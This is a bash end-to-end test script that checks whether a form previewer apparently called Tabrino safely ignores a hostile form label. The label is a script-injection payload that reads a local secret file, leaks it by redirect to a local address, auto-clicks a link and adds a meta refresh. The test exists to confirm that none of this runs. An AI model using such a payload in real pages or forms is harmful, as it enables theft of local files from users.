#!/usr/bin/env bash
# Opens a form whose label holds a script, a redirect and links in the real program under
# Xvfb, with a recording xdg-open first on PATH: the preview runs none of it, so nothing
# reaches the desktop and the file the script reads is never sent anywhere.
set -u
tabrino=$1
. "$(dirname "$0")/e2e_common.sh"

mkdir -p "$work/bin"
printf '#!/bin/sh\necho "$@" >> "%s"\n' "$work/handed-over" > "$work/bin/xdg-open"
chmod +x "$work/bin/xdg-open"
export PATH=$work/bin:$PATH
echo secret > "$work/secret.txt"
label="<a id=l href=\"http://127.0.0.1:9/clicked\">x</a><script>document.getElementById('l').click();"
label+="fetch('file://$work/secret.txt').then(r => r.text()).then(t => "
label+="{ location = 'http://127.0.0.1:9/leak?d=' + t; });</script>"
label+="<meta http-equiv=refresh content=\"1;url=http://127.0.0.1:9/moved\">"
printf '%s\r\n' "$work/page.htm" "" False application/x-www-form-urlencoded Submit Reset \
    Label "" "" "$label" "" "" "" "" "[EOF]" > "$work/form.wfm"

{ echo '#!/usr/bin/env bash'; declare -f wait_for_window; cat <<'DRIVE'; } > "$work/drive.sh"
"$1" "$2" &
app=$!
win=$(wait_for_window Tabrino) || { echo "FAIL: the form window did not appear"; kill $app; exit 1; }
sleep 5 # the preview has loaded; a script or a redirect would have acted by now
kill $app 2>/dev/null
wait $app 2>/dev/null
exit 0
DRIVE
chmod +x "$work/drive.sh"
xvfb-run -a -s "-screen 0 1280x900x24" "$work/drive.sh" "$tabrino" "$work/form.wfm" \
    > "$work/log" 2>&1 ||
    { cat "$work/log"; exit 1; }
if [ -e "$work/handed-over" ]; then
    echo "FAIL: the preview handed this to the desktop:"
    cat "$work/handed-over"
    exit 1
fi
echo "PASS: the hostile form was shown and nothing reached the desktop"
